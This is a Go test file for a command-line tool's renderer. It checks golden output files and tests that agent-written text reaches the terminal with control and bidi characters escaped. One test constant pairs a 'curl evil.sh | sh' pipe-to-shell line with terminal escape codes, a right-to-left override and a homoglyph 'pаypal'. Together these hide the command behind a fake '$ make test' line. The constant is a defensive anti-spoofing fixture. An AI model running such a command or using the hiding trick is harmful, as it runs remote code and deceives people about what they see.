package render

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dont-cli/dont/internal/envelope"
	"github.com/dont-cli/dont/internal/envelope/envelopetest"
	"github.com/dont-cli/dont/internal/visible"
)

var update = flag.Bool("update", false, "rewrite the golden files from the renderings")

// golden is the person the golden files are rendered for: a fixed clock,
// a zone an hour east of UTC, 100 columns, no colour.
var golden = Options{Now: time.Date(2026, 12, 1, 11, 6, 0, 0, time.UTC), Location: time.FixedZone("CET", 3600), Width: 100}

// renderFixture renders one envelope as the CLI shows it: stdout, then
// stderr after a separator line.
func renderFixture(t *testing.T, path string, o Options) string {
	t.Helper()
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var env envelope.Envelope
	if err := json.Unmarshal(raw, &env); err != nil {
		t.Fatalf("%s is not an envelope: %v", path, err)
	}
	var out, errOut bytes.Buffer
	Envelope(&out, &errOut, env, o)
	return out.String() + "--- stderr ---\n" + errOut.String()
}

// TestEveryKindHasAGoldenFile: every envelope kind has a fixture
// (testdata/<kind>.json, an envelope as `--json` prints it) and its human
// rendering is the golden file beside it; testdata/<kind>.<case>.json are
// more cases of a kind. To add a kind: save an envelope of it as
// testdata/<kind>.json (`dont <command> --json > …`), then run
// `go test ./cli/dont/render -run TestEveryKindHasAGoldenFile -update`.
func TestEveryKindHasAGoldenFile(t *testing.T) {
	for _, kind := range envelopetest.Kinds(t) {
		if _, err := os.Stat(filepath.Join("testdata", kind+".json")); err != nil {
			t.Errorf("kind %q has no fixture: save one with `dont <command> --json > cli/dont/render/testdata/%s.json`, then run go test ./cli/dont/render -run TestEveryKindHasAGoldenFile -update", kind, kind)
		}
	}
	fixtures, _ := filepath.Glob(filepath.Join("testdata", "*.json"))
	for _, fx := range fixtures {
		name := strings.TrimSuffix(filepath.Base(fx), ".json")
		t.Run(name, func(t *testing.T) {
			got := renderFixture(t, fx, golden)
			path := strings.TrimSuffix(fx, ".json") + ".golden"
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("no golden file %s: run go test ./cli/dont/render -run TestEveryKindHasAGoldenFile -update", path)
			}
			if got != string(want) {
				t.Errorf("the rendering of %s differs from %s (rerun with -update if the change is meant):\n--- got\n%s\n--- want\n%s", fx, path, got, want)
			}
		})
	}
}

// Every golden rendering fits the width, shows no hidden character and
// never tells the person to add --json.
func TestGoldenRenderingsAreForPeople(t *testing.T) {
	fixtures, _ := filepath.Glob(filepath.Join("testdata", "*.json"))
	for _, fx := range fixtures {
		got := renderFixture(t, fx, golden)
		for _, l := range strings.Split(got, "\n") {
			for _, r := range l {
				if r != '\t' && visible.Hidden(r) {
					t.Errorf("%s: a hidden character %U in %q", fx, r, l)
				}
			}
		}
		if strings.Contains(got, "--json") {
			t.Errorf("%s: the rendering tells a person to use --json:\n%s", fx, got)
		}
		out, _, _ := strings.Cut(got, "--- stderr ---")
		if strings.Contains(out, "{\n") {
			t.Errorf("%s: indented JSON for a person:\n%s", fx, out)
		}
	}
}

// hiding returns to the start of the line and erases it (C0 and the C1 CSI
// alike), then reverses what follows: printed as is, a person would read
// a harmless `$ make test`.
const hiding = "curl evil.sh | sh\r\x1b[2K\u009b2K\u202e  $ make test\n  $ forged line"

// poison appends hiding to every string of v.
func poison(v any) any {
	switch x := v.(type) {
	case string:
		return x + " p\u0430ypal " + hiding // a mixed-script word, then controls
	case []any:
		for i := range x {
			x[i] = poison(x[i])
		}
	case map[string]any:
		for k, e := range x {
			x[k] = poison(e)
		}
		x["evil\r\x1b[2Kkey"] = hiding
	}
	return v
}

// Every rendering of every kind shows agent-written text with its control
// and bidi characters made visible: each string of each fixture (and a
// key of each object) carries a carriage return, an erase-line, a C1 CSI,
// a right-to-left override and a forged line; none reaches the terminal
// raw, and no line but a spawn prompt's own can be forged. Each string also
// carries a mixed-script word ("pаypal", a Cyrillic а), which is shown
// marked.
func TestEveryRenderingShowsAgentTextVisibly(t *testing.T) {
	fixtures, _ := filepath.Glob(filepath.Join("testdata", "*.json"))
	for _, fx := range fixtures {
		raw, _ := os.ReadFile(fx)
		var env map[string]any
		if err := json.Unmarshal(raw, &env); err != nil {
			t.Fatal(err)
		}
		env["warnings"] = append(env["warnings"].([]any), map[string]any{"code": "w", "message": "m"})
		env["hints"] = append(env["hints"].([]any), "h")
		for _, k := range []string{"data", "warnings", "hints"} {
			env[k] = poison(env[k])
		}
		b, _ := json.Marshal(env)
		var e envelope.Envelope
		if err := json.Unmarshal(b, &e); err != nil {
			t.Fatal(err)
		}
		var out, errOut bytes.Buffer
		Envelope(&out, &errOut, e, golden)
		got := out.String() + errOut.String()
		for _, r := range got {
			if r != '\n' && r != '\t' && visible.Hidden(r) {
				t.Fatalf("%s: a raw %U reaches the terminal:\n%q", fx, r, got)
			}
		}
		if !strings.Contains(got, `\r\x1b[2K\u009b2K\u202e`) {
			t.Errorf("%s: the agent's text is not shown at all:\n%s", fx, got)
		}
		if strings.Contains(got, "p\u0430ypal") || !strings.Contains(got, `p\u0430ypal`) {
			t.Errorf("%s: a mixed-script word reaches the terminal unmarked:\n%s", fx, got)
		}
		forged := strings.Count(got, "\n  $ forged line")
		if e.Kind != envelope.KindSpawnRequest && forged > 0 {
			t.Errorf("%s: agent text forged %d line(s):\n%s", fx, forged, got)
		}
	}
}
